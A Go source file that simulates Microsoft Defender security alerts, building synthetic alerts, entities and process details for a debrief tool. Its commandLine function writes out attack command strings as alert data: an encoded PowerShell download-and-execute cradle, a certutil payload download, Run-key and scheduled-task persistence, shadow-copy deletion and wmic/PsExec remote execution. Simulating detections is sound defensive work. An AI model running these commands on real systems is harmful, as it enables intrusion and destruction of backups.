package simulate

import (
	"encoding/base64"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/debrief-dev/debrief"
)

// product is how one product names itself in each export.
type product struct {
	key             string
	name            string // debrief.Alert.Product, as the decoders name it
	apiSource       string // Defender incidents API serviceSource
	graphSource     string // Graph serviceSource
	apiDetection    string // Defender incidents API detectionSource
	graphDetection  string
	idPrefix        string // how its alert ids start
	sentinelProduct string // SecurityAlert ProductName
}

var productTable = []product{
	{productEndpoint, "Microsoft Defender for Endpoint", "MicrosoftDefenderATP", "microsoftDefenderForEndpoint", "EDR", "edr", "da", "Microsoft Defender Advanced Threat Protection"},
	{productEmail, "Microsoft Defender for Office 365", "OfficeATP", "microsoftDefenderForOffice365", "OfficeATP", "microsoftDefenderForOffice365", "fa", "Office 365 Advanced Threat Protection"},
	{productIdentity, "Microsoft Entra ID Protection", "AzureAdIdentityProtection", "azureAdIdentityProtection", "AzureAdIdentityProtection", "azureAdIdentityProtection", "ad", "Azure Active Directory Identity Protection"},
	{productDirectory, "Microsoft Defender for Identity", "AzureATP", "microsoftDefenderForIdentity", "AzureATP", "microsoftDefenderForIdentity", "aa", "Azure Advanced Threat Protection"},
	{productCloudApp, "Microsoft Defender for Cloud Apps", "MicrosoftCloudAppSecurity", "microsoftDefenderForCloudApps", "MCAS", "microsoftDefenderForCloudApps", "ca", "Microsoft Cloud App Security"},
}

// productOfAlert finds the product table row of an alert by its product
// name.
func productOfAlert(a *debrief.Alert) *product {
	for i := range productTable {
		if productTable[i].name == a.Product {
			return &productTable[i]
		}
	}
	return &productTable[0]
}

func productByKey(key string) *product {
	for i := range productTable {
		if productTable[i].key == key {
			return &productTable[i]
		}
	}
	return &productTable[0]
}

// buildAlerts turns the plan's alert plans into debrief alerts with
// Defender ids; the writers of other formats derive theirs from the same
// sequence numbers.
// It notes the random generators' states first: rebuildAlerts makes the
// same alerts again from them.
func (g *gen) buildAlerts(p *plan) {
	p.replay.r = g.r.state()
	if p.cl != nil {
		p.replay.cl, p.replay.files = p.cl.r.state(), len(p.cl.files)
	}
	p.built = g.makeAlerts(p, len(p.alerts))
}

// makeAlerts builds the plan's first n alerts.
// The alerts' entity and technique slices are windows of two arrays of
// just the length they need, one allocation each instead of two per
// alert: the entities are gathered in the generator's scratch slice
// first, then copied.
func (g *gen) makeAlerts(p *plan, n int) []debrief.Alert {
	out := make([]debrief.Alert, n)
	incID := p.qualifiedID()
	techs := 0
	for i := range n {
		techs += len(p.alerts[i].techs)
	}
	sl := alertSlabs{ents: g.entScratch[:0], ends: g.entEnds[:0], techs: make([]debrief.Technique, techs)}
	for i := range out {
		g.buildAlert(&out[i], p, &p.alerts[i], p.alertSeq+int64(i), incID, &sl)
	}
	ents := make([]debrief.Entity, len(sl.ents))
	copy(ents, sl.ents)
	start := 0
	for i, end := range sl.ends {
		out[i].Entities = ents[start:end:end]
		start = end
	}
	clear(sl.ents) // drop the scratch's references
	g.entScratch, g.entEnds = sl.ents[:0], sl.ends[:0]
	return out
}

// alertSlabs are where makeAlerts's alerts take their slices from.
type alertSlabs struct {
	ents  []debrief.Entity // every alert's entities so far
	ends  []int            // where each alert's entities end in ents
	techs []debrief.Technique
}

// techniques returns an empty slice with room for n techniques.
func (s *alertSlabs) techniques(n int) []debrief.Technique {
	ts := s.techs[:0:n]
	s.techs = s.techs[n:]
	return ts
}

// alertReplay is what rebuildAlerts needs to make a plan's alerts again:
// the states of the generator's and the cluster's random generators and
// the number of files the cluster had before they were first built.
type alertReplay struct {
	r, cl rand.PCG
	files int
}

// rebuildAlerts makes the plan's first n alerts again, the same as
// buildAlerts made them: it draws from copies of the noted states, sees
// the cluster's files as they were then and changes nothing shared. A
// plan waiting for its next change keeps no alerts, so memory does not
// grow with the number of alerts open at once.
func (g *gen) rebuildAlerts(p *plan, n int) []debrief.Alert {
	rg, rp := *g, *p
	rg.r = forkRNG(p.replay.r)
	if p.cl != nil {
		rc := *p.cl
		rc.r, rc.files, rc.replay = forkRNG(p.replay.cl), p.cl.files[:p.replay.files:p.replay.files], true
		rp.cl = &rc
	}
	return rg.makeAlerts(&rp, n)
}

// buildAlert makes the alert in a, in place: an Alert is large to copy.
func (g *gen) buildAlert(a *debrief.Alert, p *plan, ap *alertPlan, seq int64, incID string, sl *alertSlabs) {
	key := ap.techs[0].product
	title := ap.techs[0].title
	sev := severityOf(ap.tactic)
	category := ap.tactic.camel
	if p.noise != nil {
		key, title, sev = p.noise.Product, p.noise.Title, p.noise.severity
	}
	pr := productByKey(key)
	// The qualified id and the id in one allocation: "defender:" + id.
	var buf [80]byte
	qid := string(appendDefenderAlertID(append(buf[:0], debrief.SourceDefender+":"...), g.seed, seq, pr.idPrefix, ap.created))
	id := qid[len(debrief.SourceDefender)+1:]
	*a = debrief.Alert{
		ID: qid, Source: debrief.SourceDefender, SourceID: id, ProviderID: id,
		IncidentID: incID, Product: pr.name, DetectionSource: pr.graphDetection, Severity: sev, Category: category,
		FirstActivity: ap.activity, LastActivity: ap.activity.Add(time.Duration(g.r.IntN(300)) * time.Second),
		Created: ap.created, Updated: ap.created,
	}
	if ap.soft != nil {
		title = "'" + ap.soft.name + "' hacktool was detected"
		if ap.soft.kind == "malware" {
			title = "'" + ap.soft.name + "' malware was detected"
			a.Category, a.ThreatNames = "Malware", []string{ap.soft.name}
			a.DetectionSource = "antivirus"
		}
	}
	a.Title, a.RuleName = title, title
	a.RuleID = g.ruleID(pr.key, title)
	a.Techniques = sl.techniques(len(ap.techs))
	for _, t := range ap.techs {
		a.Techniques = append(a.Techniques, debrief.Technique{ID: t.id, Name: t.name, Tactics: t.shorts})
	}
	a.Tactics = ap.tactic.only
	start := len(sl.ents)
	sl.ents = g.entities(p, ap, key, a, sl.ents)
	sl.ends = append(sl.ends, len(sl.ents))
	a.Entities = sl.ents[start:len(sl.ents):len(sl.ents)] // until makeAlerts copies them
	a.Description = describe(a, ap)
}

// ruleKey names a rule: its product and title.
type ruleKey struct{ product, title string }

// ruleID is the detector id of a product's rule with the title, the same
// for every alert it raises.
func (g *gen) ruleID(product, title string) string {
	id, ok := g.rules[ruleKey{product, title}]
	if !ok {
		id = formatGUID(hashString(product+"\x00"+title), hashString(title+"\x00rule"))
		g.rules[ruleKey{product, title}] = id
	}
	return id
}

func shortnames(ts []*tactic) []string {
	out := make([]string, len(ts))
	for i, t := range ts {
		out[i] = t.short
	}
	return out
}

func describe(a *debrief.Alert, ap *alertPlan) string {
	var b strings.Builder
	b.Grow(len(ap.techs[0].name) + 96)
	b.WriteString(ap.techs[0].name)
	b.WriteString(" (")
	b.WriteString(string(ap.techs[0].id))
	b.WriteString(") was observed")
	for _, e := range a.Entities {
		if e.Kind == debrief.EntityDevice {
			b.WriteString(" on ")
			b.WriteString(e.ID)
			break
		}
		if e.Kind == debrief.EntityUser || e.Kind == debrief.EntityMailbox {
			b.WriteString(" for ")
			b.WriteString(e.ID)
			break
		}
	}
	if ap.soft != nil {
		b.WriteString(", involving ")
		b.WriteString(ap.soft.name)
	}
	b.WriteString(".")
	return b.String()
}

// entities gives the alert the entities its product would show.
// It appends them to es.
func (g *gen) entities(p *plan, ap *alertPlan, key string, a *debrief.Alert, es []debrief.Entity) []debrief.Entity {
	o := g.org
	u, dev := g.subject(p, ap)
	switch key {
	case productEndpoint:
		es = append(es, o.devices[dev].entity, u)
		es = g.endpointEntities(p, ap, dev, a, es)
	case productEmail:
		es = g.emailEntities(p, ap, es)
	case productIdentity:
		es = append(es, u, g.remoteIP(p), cloudApp(exchangeAppID, "Microsoft Exchange Online"))
		if p.cl != nil && ap.techs[0].id == "T1528" {
			es = append(es, cloudApp(p.cl.appID, p.cl.app))
		}
	case productDirectory:
		dc := o.devices[pick(g.r, o.dcs)]
		es = append(es, u, o.devices[dev].entity, dc.entity, ipEntity(o.devices[dev].ip, "related"))
	case productCloudApp:
		es = append(es, u, g.remoteIP(p), cloudApp(exchangeAppID, "Microsoft Exchange Online"))
		if p.who >= 0 {
			es = append(es, o.users[g.userOf(p, ap)].mailbox)
		}
	}
	return es
}

// subject returns the user entity and the device index the alert is
// about.
func (g *gen) subject(p *plan, ap *alertPlan) (debrief.Entity, int) {
	o := g.org
	if p.noise != nil && p.who < 0 {
		if ap.target == targetServer {
			return o.service, p.server
		}
		return o.service, p.host
	}
	ui := g.userOf(p, ap)
	dev := o.users[ui].device
	if p.noise != nil {
		dev = p.host
	}
	if ap.target == targetServer {
		dev = p.server
	}
	return o.users[ui].entity, dev
}

func (g *gen) userOf(p *plan, ap *alertPlan) int {
	switch {
	case p.noise != nil:
		return max(p.who, 0)
	case ap.target == targetSecond:
		return p.second
	}
	return p.victim
}

// remoteIP is the attacker's address, or a benign one for noise.
func (g *gen) remoteIP(p *plan) debrief.Entity {
	if p.cl == nil {
		return ipEntity(pick(g.r, g.benignIPs), "related")
	}
	return ipEntity(pick(g.r, p.cl.ips), "attacker")
}

// exchangeAppID is Exchange Online's app id in Defender for Cloud Apps.
const exchangeAppID = "20893"

func cloudApp(id, name string) debrief.Entity {
	return debrief.Entity{Kind: debrief.EntityCloudApp, ID: id, Name: name}
}

func (g *gen) emailEntities(p *plan, ap *alertPlan, es []debrief.Entity) []debrief.Entity {
	o, r := g.org, g.r
	rcpt := o.users[g.userOf(p, ap)]
	sender, subject, ip := "newsletter@"+o.domain, "Security awareness exercise", ""
	if p.cl != nil {
		sender, subject, ip = pick(r, p.cl.senders), pick(r, p.cl.subjects), pick(r, p.cl.ips)
		if ap.techs[0].id == "T1534" {
			sender = o.users[p.victim].upn
		}
	}
	msgID := r.guid()
	es = append(es, rcpt.mailbox, debrief.Entity{Kind: debrief.EntityMailMessage, ID: msgID, Name: subject,
		Attributes: map[string]string{"sender": sender, "recipient": rcpt.upn, "subject": subject, "delivery_action": "Delivered",
			"sender_ip": ip}})
	switch {
	case p.cl == nil:
		es = append(es, urlEntity("https://training."+o.domain+"/phish-sim/"+r.hex(4)))
	case ap.techs[0].id == "T1566.001":
		es = append(es, p.cl.file(nil, ap.activity).entity)
	default:
		es = append(es, urlEntity(p.cl.url()))
	}
	if ip != "" {
		es = append(es, ipEntity(ip, "attacker"))
	}
	return es
}

// endpointEntities adds the process, file, registry and network entities
// of an endpoint alert.
func (g *gen) endpointEntities(p *plan, ap *alertPlan, dev int, a *debrief.Alert, es []debrief.Entity) []debrief.Entity {
	o, r := g.org, g.r
	t := ap.techs[0]
	image, path, sha := t.image, `C:\Windows\System32`, t.imageSHA
	var f *artefact
	switch {
	case p.noise != nil && p.noise.Process != "":
		image, sha = p.noise.Process, p.noise.processSHA
	case ap.soft != nil && systemBinary(ap.soft.file):
		image, sha = ap.soft.file, ap.soft.fileSHA
	case p.cl != nil && (ap.soft != nil || r.prob(0.3)):
		f = p.cl.file(ap.soft, ap.activity)
		image, path, sha = f.name, f.path, f.sha256
		if f.threatFamily != "" && len(a.ThreatNames) == 0 {
			a.ThreatNames = []string{f.threatFamily}
		}
	}
	host := o.devices[dev].host
	// The id is host:pid:created; pid and created are parts of it. The
	// parent's pid and the image's path follow it in the same string.
	var buf [192]byte
	b := append(append(buf[:0], host...), ':')
	b = strconv.AppendInt(b, int64(1000+r.IntN(30000)), 10)
	pidEnd := len(b)
	b = appendTime(append(b, ':'), ap.activity.Add(-time.Duration(r.IntN(120))*time.Second), layoutMicrosoft)
	idEnd := len(b)
	cmd := g.commandLine(p, t, image, path)
	b = strconv.AppendInt(b, int64(500+r.IntN(9000)), 10)
	ppidEnd := len(b)
	b = append(append(append(b, path...), '\\'), image...)
	all := string(b)
	id, imagePath := all[:idEnd], all[ppidEnd:]
	pid, created, ppid := all[len(host)+1:pidEnd], all[pidEnd+1:idEnd], all[idEnd:ppidEnd]
	es = append(es, debrief.Entity{Kind: debrief.EntityProcess, ID: id, Name: image,
		Attributes: map[string]string{"command_line": cmd, "pid": pid,
			"parent_pid": ppid, "parent_image": parentImage(t), "image": imagePath,
			"device_id": o.devices[dev].entity.Attributes["device_id"], "created": created, "sha256": sha}})
	if f != nil {
		es = append(es, f.entity)
	}
	if id := string(t.id); id == "T1547.001" || id == "T1112" {
		es = append(es, debrief.Entity{Kind: debrief.EntityRegistry,
			ID: `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
			Attributes: map[string]string{"key": `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run`,
				"hive": "HKEY_CURRENT_USER", "value_name": "Updater", "value": imagePath, "value_type": "String"}})
	}
	if p.cl != nil && (t.tactics[0].short == "command-and-control" || t.tactics[0].short == "exfiltration" || t.id == "T1105") {
		es = append(es, ipEntity(pick(r, p.cl.ips), "attacker"))
	}
	return es
}

// systemBinary reports whether an ATT&CK tool is a program Windows ships
// (certutil, net, PowerShell …): alerts show it in System32, not dropped.
func systemBinary(file string) bool {
	switch file {
	case "certutil.exe", "net.exe", "cmd.exe", "powershell.exe", "netsh.exe", "reg.exe", "schtasks.exe", "wmic.exe",
		"ipconfig.exe", "systeminfo.exe", "tasklist.exe", "whoami.exe", "nltest.exe", "netstat.exe", "ping.exe",
		"bitsadmin.exe", "at.exe", "route.exe", "arp.exe", "ftp.exe", "findstr.exe", "esentutl.exe", "expand.exe",
		"forfiles.exe", "vssadmin.exe", "wevtutil.exe", "mshta.exe", "regsvr32.exe", "rundll32.exe", "msiexec.exe",
		"nbtstat.exe", "query.exe", "dsquery.exe", "taskkill.exe", "sc.exe", "xcopy.exe", "robocopy.exe":
		return true
	}
	return false
}

func parentImage(t *technique) string {
	switch t.tactics[0].short {
	case "initial-access", "execution":
		return "explorer.exe"
	case "persistence", "privilege-escalation":
		return "services.exe"
	}
	return "cmd.exe"
}

// lolbinHash is a fixed stand-in hash for a system binary.
func lolbinHash(image string) string {
	h := hashString(strings.ToLower(image))
	var b strings.Builder
	for i := range 4 {
		b.WriteString(strconv.FormatUint(mix64(h+uint64(i))|1<<63, 16))
	}
	return b.String()
}

// commandLine makes a plausible command line for the technique.
func (g *gen) commandLine(p *plan, t *technique, image, path string) string {
	r := g.r
	domain := "updates." + g.org.domain
	if p.cl != nil {
		domain = pick(r, p.cl.domains)
	}
	switch strings.ToLower(image) {
	case "powershell.exe":
		payload := base64.StdEncoding.EncodeToString([]byte("IEX (New-Object Net.WebClient).DownloadString('https://" + domain + "/" + r.hex(3) + "')"))
		return "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + payload
	case "cmd.exe":
		return "cmd.exe /c " + pick(r, []string{"whoami /all", "net group \"domain admins\" /domain", "ipconfig /all", "dir C:\\Users"})
	case "certutil.exe":
		return "certutil.exe -urlcache -split -f https://" + domain + "/" + r.hex(3) + ".exe C:\\Users\\Public\\" + r.hex(3) + ".exe"
	case "schtasks.exe":
		return `schtasks.exe /create /tn "OneDrive Updater" /tr "C:\ProgramData\` + r.hex(3) + `.exe" /sc onlogon /f`
	case "reg.exe":
		return `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "C:\ProgramData\` + r.hex(3) + `.exe" /f`
	case "psexec.exe":
		return `PsExec.exe \\` + g.org.devices[p.server].host + ` -s cmd.exe /c ipconfig`
	case "vssadmin.exe":
		return "vssadmin.exe delete shadows /all /quiet"
	case "wmic.exe":
		return `wmic.exe /node:` + g.org.devices[p.server].host + ` process call create "cmd.exe /c whoami"`
	}
	return `"` + path + `\` + image + `" ` + strings.ToLower(strings.ReplaceAll(t.name, " ", "-"))
}
